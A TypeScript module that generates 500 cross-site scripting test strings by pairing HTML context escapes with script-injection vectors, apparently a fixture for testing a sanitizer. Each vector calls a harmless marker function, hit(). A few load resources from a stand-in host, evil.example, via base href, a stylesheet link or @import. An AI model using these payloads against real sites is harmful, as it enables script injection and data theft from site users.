/** 500 texts that try to run `hit()` in an HTML page: ways out of a context times ways to a script. */
const EXITS = ['', '"', "'", '">', "'>", '-->', ']]>', '</title>', '</style>', '</textarea>', '</bdi>', '</blockquote><p>', '&quot;&gt;', '\u0000', '%3E', '\\">', '<!--', '<![CDATA[', '</script>', '\n\n'] as const; // prettier-ignore
const SCRIPTS = [
  '<script>hit()</script>',
  '<SCRIPT/x>hit()</SCRIPT >',
  '<img src=x onerror=hit()>',
  '<img src="x" onerror="hit()"/',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<math><mtext><script>hit()</script>',
  '<body onload=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<iframe src="javascript:parent.hit()">',
  '<a href="javascript:hit()" id=x>x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<form action="javascript:hit()"><input type=submit>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<object data="javascript:hit()">',
  '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>',
  ' onmouseover=hit() onload=hit() x="',
  ' style="background:url(javascript:hit())" ',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><p title="</noscript><script>hit()</script>">',
  '<template><script>hit()</script></template>',
  'javascript:hit()//',
] as const;

export const SCRIPT_PAYLOADS: readonly string[] = EXITS.flatMap((exit) =>
  SCRIPTS.map((script) => exit + script),
);
